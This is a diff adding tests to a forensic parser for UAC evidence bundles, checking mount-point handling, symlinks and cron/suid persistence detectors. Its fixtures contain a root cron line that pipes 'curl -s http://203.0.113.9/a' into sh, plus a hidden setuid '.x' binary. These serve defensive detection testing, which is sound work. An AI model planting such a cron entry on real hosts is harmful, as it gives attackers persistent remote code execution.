@@ -263,7 +263,10 @@ describe('UAC', () => {
     expect(bundle.tree.digest('/usr/bin/.x', 'sha1')).toBe('a'.repeat(40));
     expect(bundle.tree.digest('/usr/bin/.x', 'sha256')).toBeUndefined();
     expect(bundle.problems).toMatchObject([{ code: 'bad-record', at: { line: 4 } }]);
-    expect(bundle.notChecked.map(({ what }) => what)).toEqual(['processes and connections']);
+    expect(bundle.notChecked.map(({ what }) => what)).toEqual([
+      'files more than 3 folders deep that were not copied',
+      'processes and connections',
+    ]);
     const detectors = inspectHost(bundle.tree).claims.map(({ detector }) => detector.split('/')[1]);
     expect(detectors).toEqual(expect.arrayContaining(['cron', 'suid']));
     bundle.close();
@@ -342,6 +345,62 @@ describe('UAC', () => {
       { code: 'bad-record', message: expect.stringContaining('/etc/none') as string },
     ]);
     bundle.close();
+  });
+
+  const uacLog = (host: string, mount: string): string =>
+    `2026-11-27 10:00:00 +0000 INF Hostname: ${host}\n2026-11-27 10:00:00 +0000 INF Mount point: ${mount}\n`;
+
+  it('takes the mount point off the names of a disk that was mounted for it, and the name from the log', async () => {
+    const bundle = await openBundle(
+      archive({
+        'uac.log': uacLog('db7', '/mnt/disk'),
+        '[root]/etc/cron.d/job': '* * * * * root curl -s http://203.0.113.9/a | sh\n',
+        'bodyfile/bodyfile.txt': [
+          '0|/mnt/disk/usr/local/bin/.x|13|-rwsr-xr-x|0|0|100|1700000000|1700000001|1700000002|0',
+          '0|/mnt/other/etc/shadow|14|-rw-------|0|0|7|1700000000|1700000001|1700000002|0',
+        ].join('\n'),
+        'hash_executables/hash_executables.md5': `${'b'.repeat(32)}  /mnt/disk/usr/local/bin/.x\n`,
+      }),
+    );
+    expect(bundle.host).toBe('db7');
+    expect(bundle.tree.stat('/usr/local/bin/.x')).toMatchObject({ mode: 0o4755, inode: 13 });
+    expect(bundle.tree.digest('/usr/local/bin/.x', 'md5')).toBe('b'.repeat(32));
+    expect(bundle.tree.stat('/mnt')).toBeUndefined();
+    expect(bundle.notChecked[0]?.what).toBe('files more than 4 folders deep that were not copied');
+    const { claims } = inspectHost(bundle.tree, { hostName: bundle.host ?? '' });
+    expect(claims.map(({ path }) => path)).toEqual(expect.arrayContaining(['/etc/cron.d/job', '/usr/local/bin/.x']));
+    expect(claims[0]?.entities).toContainEqual({ kind: 'host', value: 'db7' });
+    bundle.close();
+  });
+
+  it('finds the content of a file that was copied through a link', async () => {
+    const bundle = await openBundle(
+      archive({
+        '[root]/lib/systemd/system/x.service': '[Service]\nExecStart=/bin/true\n',
+        'bodyfile/bodyfile.txt': [
+          '0|/lib -> usr/lib|14|lrwxrwxrwx|0|0|7|1700000000|1700000001|1700000002|0',
+          '0|/usr/lib/systemd/system/x.service|13|-rw-r-----|0|0|36|1700000000|1700000001|1700000002|0',
+        ].join('\n'),
+      }),
+    );
+    expect(bundle.tree.read('/usr/lib/systemd/system/x.service')?.toString()).toContain('ExecStart');
+    expect(bundle.tree.stat('/lib/systemd/system/x.service')).toMatchObject({ mode: 0o640, inode: 13 });
+    bundle.close();
+  });
+
+  it('reads one that was unpacked, or never packed', async () => {
+    const path = join(folder, 'uac-web1-linux-20260301100000');
+    mkdirSync(join(path, '[root]/etc/cron.d'), { recursive: true });
+    writeFileSync(join(path, '[root]/etc/cron.d/job'), '* * * * * root curl -s http://203.0.113.9/a | sh\n');
+    symlinkSync('/', join(path, '[root]/loop'));
+    const bundle = await openBundle(path);
+    expect(bundle).toMatchObject({ form: 'uac', host: 'web1' });
+    expect(inspectHost(bundle.tree).claims).toMatchObject([{ detector: 'persistence/cron', path: '/etc/cron.d/job' }]);
+    bundle.close();
+  });
+
+  it('holds names for damaged that no system has', () => {
+    expect(bodyEntryOf(`0|${'/a'.repeat(100_000)}|5|-rw-r--r--|0|0|2|0|0|0|0`)).toBeUndefined();
   });
 
   it('reads modes, links and names with separators', () => {
